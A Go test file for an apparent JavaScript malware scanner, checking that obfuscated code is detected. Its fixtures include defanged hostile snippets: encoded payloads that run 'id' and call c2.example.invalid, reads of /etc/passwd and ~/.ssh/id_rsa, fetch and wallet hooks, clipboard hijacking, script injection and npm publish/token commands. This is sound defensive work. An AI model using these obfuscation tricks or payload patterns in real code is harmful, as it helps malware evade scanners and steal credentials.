package features

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/moatproject/moat/scan/sequence"
)

// Hand-written, defanged snippets: .invalid hosts, harmless commands.

// b64 and obfB64 encode payloads the way the fixtures' authors would:
// standard base64, and obfuscator.io's base64 variant (lower-case letters
// first in the alphabet, i.e. standard base64 with the case swapped).
func jsB64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func obfB64(s string) string {
	e := strings.TrimRight(base64.StdEncoding.EncodeToString([]byte(s)), "=")
	return strings.Map(func(r rune) rune {
		switch {
		case r >= 'a' && r <= 'z':
			return r - 'a' + 'A'
		case r >= 'A' && r <= 'Z':
			return r - 'A' + 'a'
		}
		return r
	}, e)
}

func jsReverse(s string) string {
	r := []rune(s)
	slices.Reverse(r)
	return string(r)
}

// charCodes renders s as a comma-separated list of character codes, each
// optionally XORed with key.
func charCodes(s string, key int) string {
	parts := make([]string, 0, len(s))
	for _, c := range []byte(s) {
		parts = append(parts, itoa(int(c)^key))
	}
	return strings.Join(parts, ",")
}

type foldCase struct {
	token string
	plain string
	forms []string
}

// jsFoldCases: each obfuscated form must yield the token its plain form
// yields.
func jsFoldCases() []foldCase {
	return []foldCase{
		{"eval.call", `globalThis.eval(s);`, []string{
			`const g = globalThis; g['ev' + 'al'](s);`,
			`globalThis[('e' + 'v') + ('a' + 'l')](s);`,
			"window[`ev${'a' + 'l'}`](s);",
			`const k = 'ev' + 'al'; globalThis[k](s);`,
			`const a = 'ev', b = a + 'al'; self[b](s);`,
			`globalThis[String.fromCharCode(` + charCodes("eval", 0) + `)](s);`,
			`globalThis[String.fromCharCode.apply(null, [` + charCodes("eval", 0) + `])](s);`,
			`globalThis[String.fromCharCode(...[` + charCodes("eval", 0) + `])](s);`,
			`globalThis['lave'.split('').reverse().join('')](s);`,
			`globalThis[atob('` + jsB64("eval") + `')](s);`,
			`globalThis[Buffer.from('` + jsB64("eval") + `', 'base64').toString()](s);`,
			`globalThis[Buffer.from('6576616c', 'hex').toString('utf8')](s);`,
			`globalThis[decodeURIComponent('%65%76%61%6c')](s);`,
			`globalThis[unescape('%65v%61l')](s);`,
			`globalThis['\x65\x76\u0061\u{6c}'](s);`,
			`globalThis[[` + charCodes("eval", 0x4a) + `].map(c => String.fromCharCode(c ^ 0x4a)).join('')](s);`,
			`globalThis[[` + charCodes("eval", 7) + `].map(function (c) { return String.fromCharCode(c ^ 7); }).join('')](s);`,
			`globalThis['fubo'.split('').map(c => String.fromCharCode(c.charCodeAt(0) ^ 3)).join('')](s);`,
			`globalThis[(14).toString(36) + (31).toString(36) + 'al'](s);`,
			`const parts = ['ev', 'al']; globalThis[parts[0] + parts[1]](s);`,
			`Function('return this')()['ev' + 'al'](s);`,
			`(0, globalThis['ev' + 'al'])(s);`,
		}},
		{"eval.call", `new Function(body)();`, []string{
			`[]['constr' + 'uctor']['constr' + 'uctor'](body)();`,
			`[].constructor.constructor(body)();`,
			`(() => {}).constructor(body)();`,
			`(function () {}).constructor(body)();`,
			`Function.prototype.constructor(body)();`,
			`Object.getPrototypeOf(async function () {}).constructor(body)();`,
			`const F = (function () {}).constructor; new F(body)();`,
			`globalThis['Func' + 'tion'](body)();`,
		}},
		{"process.import", `require('child_process');`, []string{
			`require('child' + '_process');`,
			"require(`child_${'process'}`);",
			`require(String.fromCharCode(` + charCodes("child_process", 0) + `));`,
			`const m = ['child', 'process'].join('_'); require(m);`,
			`require(atob('` + jsB64("child_process") + `'));`,
			`global['req' + 'uire']('child_process');`,
			`process['mainModule']['require']('child_process');`,
			`process.mainModule.require('child_process');`,
			`module.constructor._load('child_process');`,
			`require('ssecorp_dlihc'.split('').reverse().join(''));`,
		}},
		{"process.call", `require('child_process').exec('id');`, []string{
			`require('child' + '_process')['ex' + 'ec']('id');`,
			"const cp = require(`child_${'process'}`); cp.exec('id');",
			`const name = 'child_process'; const cp = require(name); cp['exec']('id');`,
			`const cp = require('child_process'); cp.exec.call(cp, 'id');`,
		}},
		{"env.read.secret", `process.env.NPM_TOKEN;`, []string{
			`process['e' + 'nv'].NPM_TOKEN;`,
			`process['env']['NPM_' + 'TOKEN'];`,
			`const v = 'NPM_TOKEN'; process.env[v];`,
		}},
		{"env.read.all", `JSON.stringify(process.env);`, []string{
			`JSON.stringify(process['e' + 'nv']);`,
		}},
		{"net.call", `fetch(u);`, []string{
			`window['fe' + 'tch'](u);`,
			`globalThis[atob('` + jsB64("fetch") + `')](u);`,
		}},
	}
}

func TestJSFoldedNames(t *testing.T) {
	e := newTestExtractor(t)
	for _, tc := range jsFoldCases() {
		for i, src := range append([]string{tc.plain}, tc.forms...) {
			t.Run(tc.token+"/"+itoa(i), func(t *testing.T) {
				fe := extract(t, e, "a.js", src)
				if !slices.Contains(tokens(fe), tc.token) {
					t.Errorf("%s: want %s in:\n%s", src, tc.token, dump(fe))
				}
				checkWellFormed(t, fe, "a.js")
			})
		}
	}
}

// TestJSFoldValues checks the folder's results through the module
// specifiers it resolves (recorded in Imports).
func TestJSFoldValues(t *testing.T) {
	e := newTestExtractor(t)
	for _, tc := range []struct{ expr, want string }{
		{`'a' + 'b' + 'c'`, "abc"},
		{"`x${'y'}${1 + 2}z`", "xy3z"},
		{`'\x61\u0062\u{63}\n'.trim()`, "abc"},
		{`String.fromCharCode(0x61, 98, 0o143)`, "abc"},
		{`String.fromCodePoint.call(null, 97, 98)`, "ab"},
		{`atob('YWJj')`, "abc"},
		{`Buffer.from('YWJj', 'base64').toString()`, "abc"},
		{`new Buffer('616263', 'hex').toString()`, "abc"},
		{`Buffer.from([97, 98, 99]).toString('utf8')`, "abc"},
		{`Buffer.from('abc').toString('base64')`, "YWJj"},
		{`decodeURIComponent('%61%62c')`, "abc"},
		{`'cba'.split('').reverse().join('')`, "abc"},
		{`['a', 'b', 'c'].join('')`, "abc"},
		{`[1, 2].map((x, i) => x + i).join('-')`, "1-3"},
		{`'xabcx'.slice(1, -1)`, "abc"},
		{`'xabc'.substring(1)`, "abc"},
		{`'xxabcyy'.substr(2, 3)`, "abc"},
		{`'aXc'.replace('X', 'b')`, "abc"},
		{`'a-b-c'.replaceAll('-', '')`, "abc"},
		{`'ABC'.toLowerCase()`, "abc"},
		{`'ab'.concat('c')`, "abc"},
		{`'abc'.charAt(1) + 'abc'[2]`, "bc"},
		{`String(parseInt('ff', 16)) + (10 >> 1) + (~~3.7) + (5 & 3) + (-(-2))`, "255531" + "2"},
		{`(255).toString(16) + (35).toString(36)`, "ffz"},
		{`'ab'.repeat(2)`, "abab"},
		{`['a', ['b', 'c']].concat(['d']).join('')`, "ab,cd"},
	} {
		fe := extract(t, e, "a.js", "require("+tc.expr+");\n")
		if len(fe.Imports) != 1 || fe.Imports[0] != tc.want {
			t.Errorf("%s: imports %q, want [%q]", tc.expr, fe.Imports, tc.want)
		}
	}
	// Not folded: unknown values, reassigned or repeated bindings, methods
	// with side effects the folder does not model.
	for _, src := range []string{
		`require(x + 'b');`,
		`let m = 'a'; m = 'b'; require(m);`,
		`var m = 'a'; var m = 'b'; require(m);`,
		`let m = 'a'; m += 'b'; require(m);`,
		`const m = f('a'); require(m);`,
		`require('a'.foo());`,
		`require(String.fromCharCode(-1));`,
		`require(atob('!!!'));`,
	} {
		if fe := extract(t, e, "a.js", src); len(fe.Imports) != 0 {
			t.Errorf("%s: imports %q, want none", src, fe.Imports)
		}
	}
}

// TestJSFoldBounds: hostile constant chains and huge payloads finish fast
// and do not build oversized strings.
func TestJSFoldBounds(t *testing.T) {
	e := newTestExtractor(t)
	var b strings.Builder
	b.WriteString("const a0 = 'ab'; const n0 = 1;\n")
	for i := 1; i <= 60; i++ {
		p := itoa(i - 1)
		b.WriteString("const a" + itoa(i) + " = a" + p + " + a" + p + "; const n" + itoa(i) + " = n" + p + " + n" + p + ";\n")
	}
	b.WriteString("require(a60); require(String.fromCharCode(n60 - n60 + 97)); eval(a60 + a60);\n")
	b.WriteString("const self0 = self0 + 'x'; require(self0);\n")
	b.WriteString("eval('x'.repeat(1e9));\n")
	start := time.Now()
	fe := extract(t, e, "a.js", b.String())
	if d := time.Since(start); d > 5*time.Second {
		t.Errorf("extraction took %v", d)
	}
	for _, spec := range fe.Imports {
		if len(spec) > maxFold {
			t.Errorf("folded a %d-byte specifier", len(spec))
		}
	}
	if !slices.Contains(fe.Imports, "a") {
		t.Errorf("numeric constant chain: imports %q, want a", fe.Imports)
	}
}

// TestJSDecodedPayload: code decoded from a literal and evaluated is
// analysed, and its events appear at the evaluating call.
func TestJSDecodedPayload(t *testing.T) {
	e := newTestExtractor(t)
	payload := `const cp = require('child_process'); cp.exec('id'); require('https').get('https://c2.example.invalid/x');`
	type ev struct {
		tok  string
		line int
	}
	cases := []struct {
		name string
		src  string
		want []ev
		not  []string
	}{
		{"Buffer base64 via const", "const p = Buffer.from('" + jsB64(payload) + "', 'base64').toString();\neval(p);\n",
			[]ev{{"eval.decoded", 2}, {"process.import", 2}, {"process.call", 2}, {"net.import", 2}, {"net.call", 2}, {"url", 2}}, nil},
		{"Function atob", "\nnew Function(atob('" + jsB64(payload) + "'))();\n",
			[]ev{{"eval.decoded", 2}, {"process.call", 2}, {"net.call", 2}}, nil},
		{"vm.runInNewContext", "const vm = require('vm');\nvm.runInNewContext(Buffer.from('" + jsB64(payload) + "', 'base64').toString('utf8'), {});\n",
			[]ev{{"eval.decoded", 2}, {"process.call", 2}}, nil},
		{"new vm.Script", "const vm = require('vm');\nnew vm.Script(atob('" + jsB64(payload) + "'));\n",
			[]ev{{"eval.decoded", 2}, {"process.call", 2}}, nil},
		{"reversed", "eval('" + strings.ReplaceAll(jsReverse(payload), "'", `\'`) + "'.split('').reverse().join(''));\n",
			[]ev{{"eval.call", 1}, {"eval.decoded", 1}, {"process.call", 1}, {"net.call", 1}}, nil},
		{"xor char codes", "eval([" + charCodes(payload, 0x21) + "].map(c => String.fromCharCode(c ^ 0x21)).join(''));\n",
			[]ev{{"eval.decoded", 1}, {"process.call", 1}}, nil},
		{"xor loop", "const data = [" + charCodes(payload, 0x5a) + "];\nlet out = '';\nfor (let i = 0; i < data.length; i++) {\n  out += String.fromCharCode(data[i] ^ 0x5a);\n}\neval(out);\n",
			[]ev{{"eval.decoded", 6}, {"process.call", 6}, {"net.call", 6}}, nil},
		{"loop with a second writer", "const data = [" + charCodes(payload, 0x5a) + "];\nlet out = '';\nfor (let i = 0; i < data.length; i++) out += String.fromCharCode(data[i] ^ 0x5a);\nout = x;\neval(out);\n",
			nil, []string{"process.call"}},
		{"eval.call", "eval.call(null, atob('" + jsB64(payload) + "'));\n",
			[]ev{{"eval.decoded", 1}, {"process.call", 1}}, nil},
		{"plain literal", "eval(\"require('fs').readFileSync('/etc/passwd')\");\n",
			[]ev{{"eval.call", 1}, {"fs.read", 1}}, []string{"eval.decoded"}},
		{"two levels", "eval(atob('" + jsB64("eval(atob('"+jsB64("require('os').hostname()")+"'))") + "'));\n",
			[]ev{{"os.call", 1}}, nil},
		{"three levels stop", "eval(atob('" + jsB64("eval(atob('"+jsB64("eval(atob('"+jsB64("require('os').hostname()")+"'))")+"'))") + "'));\n",
			nil, []string{"os.call"}},
		{"not code", "eval(atob('" + jsB64("\x00\x01\x02\x03 binary") + "'));\n",
			[]ev{{"eval.decoded", 1}}, []string{"parse.error"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			fe := extract(t, e, "a.js", tc.src)
			checkWellFormed(t, fe, "a.js")
			for _, w := range tc.want {
				if !slices.ContainsFunc(fe.Events, func(x sequence.Event) bool { return x.Token == w.tok && x.Line == w.line }) {
					t.Errorf("want %s at line %d in:\n%s", w.tok, w.line, dump(fe))
				}
			}
			for _, tok := range tc.not {
				if slices.Contains(tokens(fe), tok) {
					t.Errorf("unexpected %s in:\n%s", tok, dump(fe))
				}
			}
		})
	}
	fe := extract(t, e, "a.js", "eval(atob('"+jsB64("require('./stage2')")+"'));\n")
	if !slices.Contains(fe.Imports, "./stage2") {
		t.Errorf("decoded imports not recorded: %q", fe.Imports)
	}
}

// obfuscatorPool builds an obfuscator.io-shaped file: a string array
// function, an accessor with an offset, a rotation IIFE, and code that
// reads every name through the accessor.
func obfuscatorPool(enc func(string) string, strs ...string) string {
	q := make([]string, len(strs))
	for i, s := range strs {
		q[i] = "'" + enc(s) + "'"
	}
	return "function _0x3a1b(){const _0x51f2=[" + strings.Join(q, ",") + "];_0x3a1b=function(){return _0x51f2;};return _0x3a1b();}\n" +
		"function _0x2c4d(_0x1e,_0x4f){const _0x5a=_0x3a1b();return _0x2c4d=function(_0x6b,_0x7c){_0x6b=_0x6b-0x1a0;let _0x8d=_0x5a[_0x6b];return _0x8d;},_0x2c4d(_0x1e,_0x4f);}\n" +
		"(function(_0x9e,_0xaf){const _0xb0=_0x9e();while(!![]){try{const _0xc1=parseInt(_0x2c4d(0x1a2))/0x1;if(_0xc1===_0xaf)break;else _0xb0['push'](_0xb0['shift']());}catch(_0xd2){_0xb0['push'](_0xb0['shift']());}}}(_0x3a1b,0x3039));\n" +
		"const _0xe3=_0x2c4d;const _0xf4=require(_0xe3(0x1a0));_0xf4[_0xe3(0x1a1)](_0xe3(0x1a3));\n"
}

func TestJSStringPool(t *testing.T) {
	e := newTestExtractor(t)
	strs := []string{"child_process", "exec", "log", "https://c2.example.invalid/c", "id", "platform", "os", "/.ssh/id_rsa"}
	plain := func(s string) string { return s }
	for _, tc := range []struct {
		name string
		src  string
		want []string
	}{
		{"plain pool", obfuscatorPool(plain, strs...), []string{"process.import", "process.call", "os.import", "url", "sensitive.path"}},
		{"base64 pool", obfuscatorPool(obfB64, strs...), []string{"process.import", "process.call", "os.import", "url", "sensitive.path"}},
		{"eval in pool", obfuscatorPool(obfB64, "eval", "constructor", "return this", "log", "warn", "x"), []string{"eval.call"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fe := extract(t, e, "a.js", tc.src)
			checkWellFormed(t, fe, "a.js")
			for _, w := range tc.want {
				if !slices.ContainsFunc(fe.Events, func(x sequence.Event) bool { return x.Token == w && x.Line == 1 }) {
					t.Errorf("want %s at the pool (line 1) in:\n%s", w, dump(fe))
				}
			}
		})
	}
	// A list of module names in ordinary code is not a pool.
	fe := extract(t, e, "a.js", `const builtins = ['assert', 'buffer', 'child_process', 'fs', 'http', 'https', 'os', 'path'];
module.exports = (m) => builtins.includes(m);
`)
	if toks := tokens(fe); slices.Contains(toks, "process.import") || slices.Contains(toks, "os.import") {
		t.Errorf("builtin list read as a pool:\n%s", dump(fe))
	}
}

// jsNewTokenCases: positive and benign look-alike cases for the tokens
// added with the folding work.
var jsNewTokenCases = []struct {
	token string
	name  string
	src   string
	want  bool
}{
	{"browser.hook", "fetch override", `const orig = window.fetch; window.fetch = async (...a) => orig(...a);`, true},
	{"browser.hook", "computed fetch", `const o = globalThis.fetch; globalThis['fe' + 'tch'] = (u, i) => o(u, i);`, true},
	{"browser.hook", "xhr open", `XMLHttpRequest.prototype.open = function (m, u) { this._u = u; };`, true},
	{"browser.hook", "xhr send via window", `const s = window.XMLHttpRequest.prototype.send; window.XMLHttpRequest.prototype.send = function (b) { return s.call(this, b); };`, true},
	{"browser.hook", "ethereum request", `window.ethereum.request = async (args) => args;`, true},
	{"browser.hook", "ethereum alias", `const eth = window.ethereum; eth.sendAsync = (p, cb) => cb(null, p);`, true},
	{"browser.hook", "defineProperty ethereum", `Object.defineProperty(window, 'ethereum', { get() { return p; } });`, true},
	{"browser.hook", "solana", `window.solana.signTransaction = async (tx) => tx;`, true},
	{"browser.hook", "phantom", `window.phantom.solana.signAndSendTransaction = f;`, true},
	{"spy.call", "clipboard write", `navigator.clipboard.writeText(addr);`, true},
	{"spy.call", "copy listener", `document.addEventListener('copy', (e) => e.preventDefault());`, true},
	{"browser.hook", "polyfill if missing", `if (!window.fetch) { window.fetch = polyfill; }`, false},
	{"browser.hook", "polyfill or", `self.fetch = self.fetch || polyfill;`, false},
	{"browser.hook", "polyfill typeof", `if (typeof globalThis.fetch === 'undefined') globalThis.fetch = impl;`, false},
	{"browser.hook", "polyfill in", `if (!('fetch' in window)) window.fetch = impl;`, false},
	{"browser.hook", "local fetch", `let fetch; fetch = require('node-fetch');`, false},
	{"browser.hook", "click listener", `document.addEventListener('click', onClick);`, false},
	{"browser.hook", "own object", `client.request = (o) => send(o);`, false},
	{"wallet.address", "ethereum", `const to = '0xa54dca182530bb1d6d132cded6237b2ed91e3f72';`, true},
	{"wallet.address", "bech32", `const to = 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4';`, true},
	{"wallet.address", "base58check", `const to = '1Lw16f5QBifZt2qnqqaRvSSv14P5tCM3Y3';`, true},
	{"wallet.address", "tron", `const to = 'TCsKFbeZNPfgu3Sj5ieVhEHmyZ2bnDWFRY';`, true},
	{"wallet.address", "solana", `const to = '6FQEkNCwrhx5YDdmUiRqE8V1EokoX6cmfvdpjr1TVX9w';`, true},
	{"wallet.address", "eth regex", `const re = /0x[a-fA-F0-9]{40}/g;`, true},
	{"wallet.address", "btc regex", `const re = /(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}/;`, true},
	{"wallet.address", "sha1 hex", `const h = 'da39a3ee5e6b4b0d3255bfef95601890afd80709';`, false},
	{"wallet.address", "zero address", `const z = '0x0000000000000000000000000000000000000000';`, false},
	{"wallet.address", "sha256 with 0x", `const h = '0xe3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';`, false},
	{"wallet.address", "bech32 bad checksum", `const to = 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5';`, false},
	{"wallet.address", "base58 bad checksum", `const to = '1Lw16f5QBifZt2qnqqaRvSSv14P5tCM3Y4';`, false},
	{"wallet.address", "git sha regex", `const re = /^[0-9a-f]{40}$/;`, false},
	{"wallet.address", "identifier", `const k = 'someLongIdentifierNameHereForTesting';`, false},
	{"script.inject", "createElement src", `const s = document.createElement('script'); s.src = 'https://cdn.example.invalid/x.js'; document.head.appendChild(s);`, true},
	{"script.inject", "setAttribute", `const s = document.createElement('SCRIPT'); s.setAttribute('src', '//cdn.example.invalid/x.js');`, true},
	{"script.inject", "computed url", `const s = document.createElement('script'); s.src = 'https://' + host + '/x.js';`, true},
	{"script.inject", "Object.assign", `document.body.append(Object.assign(document.createElement('script'), { src: 'https://cdn.example.invalid/x.js' }));`, true},
	{"script.inject", "document.write", `document.write('<script src="https://cdn.example.invalid/a.js"></script>');`, true},
	{"script.inject", "innerHTML", `el.innerHTML = '<script type="text/javascript" src="https://' + host + '/a.js"></script>';`, true},
	{"script.inject", "inline script in a test", `expect(render()).toBe('<script>console.log(1)</script>');`, false},
	{"script.inject", "local src", `const s = document.createElement('script'); s.src = './local.js';`, false},
	{"script.inject", "image src", `const img = document.createElement('img'); img.src = 'https://cdn.example.invalid/a.png';`, false},
	{"publish.self", "npm publish", `require('child_process').execSync('npm publish --access public');`, true},
	{"publish.self", "after cd", `exec('cd /tmp/pkg && npm publish');`, true},
	{"publish.self", "spawn args", `require('child_process').spawn('npm', ['publish', '--tag', 'latest']);`, true},
	{"publish.self", "npm token", `run('npm token create --read-only');`, true},
	{"publish.self", "gh auth token", `const t = execSync('gh auth token').toString();`, true},
	{"publish.self", "registry body", `const body = { _id: name, 'dist-tags': { latest: v }, versions: {}, _attachments: {} };`, true},
	{"publish.self", "user endpoint", `put('/-/user/org.couchdb.user:' + name, creds);`, true},
	{"publish.self", "prose", `console.log('Run npm publish to release');`, false},
	{"publish.self", "npm install", `execSync('npm install --no-save');`, false},
	{"fs.read.nonsource", "png concat", `const fs = require('fs'); fs.readFileSync(__dirname + '/logo.png');`, true},
	{"fs.read.nonsource", "path.join", `const fs = require('fs'); fs.readFileSync(path.join(__dirname, 'assets', 'font.woff2'));`, true},
	{"fs.read.nonsource", "promises", `const fs = require('fs'); fs.promises.readFile('./data.bin');`, true},
	{"fs.read.nonsource", "template", "const fs = require('fs'); fs.createReadStream(`${dir}/x.DAT`);", true},
	{"fs.read.nonsource", "json", `const fs = require('fs'); fs.readFileSync('package.json');`, false},
	{"fs.read.nonsource", "variable", `const fs = require('fs'); fs.readFileSync(p);`, false},
	{"fs.read.nonsource", "write png", `const fs = require('fs'); fs.writeFileSync('out.png', data);`, false},
	{"import.dynamic", "import shim", `const load = new Function('modulePath', 'return import(modulePath)');`, true},
	{"import.dynamic", "import shim await", `const load = Function('p', 'return await import(p);');`, true},
	{"eval.call", "import shim not for eval", `const load = new Function('modulePath', 'return import(modulePath)');`, false},
	{"eval.call", "import then eval", `new Function('m', 'return import(m).then(x => eval(x.default))');`, true},
	{"eval.call", "import of a literal", `new Function('m', 'return import("child_process")');`, true},
	{"eval.call", "import without params", `new Function('return import(x)');`, true},
}

func TestJSNewTokens(t *testing.T) {
	e := newTestExtractor(t)
	for _, tc := range jsNewTokenCases {
		t.Run(tc.token+"/"+tc.name, func(t *testing.T) {
			fe := extract(t, e, "a.js", tc.src)
			checkWellFormed(t, fe, "a.js")
			got := slices.ContainsFunc(fe.Events, func(x sequence.Event) bool { return x.Token == tc.token && x.Line == 1 && x.Snippet != "" })
			if got != tc.want {
				t.Errorf("%s found=%v, want %v:\n%s", tc.token, got, tc.want, dump(fe))
			}
		})
	}
}

func TestWalletAddress(t *testing.T) {
	for _, tc := range []struct {
		s    string
		want bool
	}{
		{"0xa54dca182530bb1d6d132cded6237b2ed91e3f72", true},
		{"0xA54DCA182530BB1D6D132CDED6237B2ED91E3F72", true},
		{"0x000000000000000000000000000000000000dEaD", false},
		{"0x1111111111111111111111111111111111111111", false},
		{"0xa54dca182530bb1d6d132cded6237b2ed91e3f7g", false},
		{"bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4", true},
		{"BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4", true},
		{"bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4x", false},
		{"1Lw16f5QBifZt2qnqqaRvSSv14P5tCM3Y3", true},
		{"1Lw16f5QBifZt2qnqqaRvSSv14P5tCM3Y4", false},
		{"TCsKFbeZNPfgu3Sj5ieVhEHmyZ2bnDWFRY", true},
		{"6FQEkNCwrhx5YDdmUiRqE8V1EokoX6cmfvdpjr1TVX9w", true},
		{"11111111111111111111111111111111", false},
		{"QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG", false},
		{"", false},
	} {
		if got := walletAddress([]byte(tc.s)); got != tc.want {
			t.Errorf("walletAddress(%q) = %v, want %v", tc.s, got, tc.want)
		}
	}
}

// TestFunctionCallBindIsNotEval: `const c = Function.call.bind(toString)`
// (Babel's helpers) binds c to toString, not to the Function constructor:
// c(String.fromCharCode(i)) elsewhere in the file is no decoded eval.
func TestFunctionCallBindIsNotEval(t *testing.T) {
	src := "function k(c, i) { return c(String.fromCharCode(i)); }\n" +
		"const c = Function.call.bind(Object.prototype.toString);\n" +
		"function isRegExp(r) { return c(r) === '[object RegExp]'; }\n" +
		"module.exports = { k, isRegExp };\n"
	fe := extract(t, newTestExtractor(t), "index.mjs", src)
	for _, tok := range []string{"eval.call", "eval.decoded"} {
		if n := count(tokens(fe), tok); n != 0 {
			t.Errorf("%s emitted %d times; tokens %v", tok, n, tokens(fe))
		}
	}
}

// TestLongCallChainIsLinear: a chain of calls, curried ones included
// (x.m(1)(2).n(3)(4)…, as bundles write them), resolves in time linear in its length; it took
// exponential time once, and a scan never finished.
func TestLongCallChainIsLinear(t *testing.T) {
	var b strings.Builder
	b.WriteString("module.exports = x")
	for i := 0; i < 60; i++ {
		fmt.Fprintf(&b, ".m%d(%d)(%d)", i, i, i)
	}
	b.WriteString(";\n")
	e := newTestExtractor(t)
	done := make(chan struct{})
	go func() {
		extract(t, e, "index.js", b.String())
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		t.Fatal("a 60-call chain did not finish in 10 s")
	}
	// Function('return this')() through a chain still resolves.
	fe := extract(t, e, "g.js", "Function('return this')().process.mainModule.require('child_process').exec('id');\n")
	if count(tokens(fe), "process.call") == 0 {
		t.Errorf("global through Function('return this')(): tokens %v", tokens(fe))
	}
}
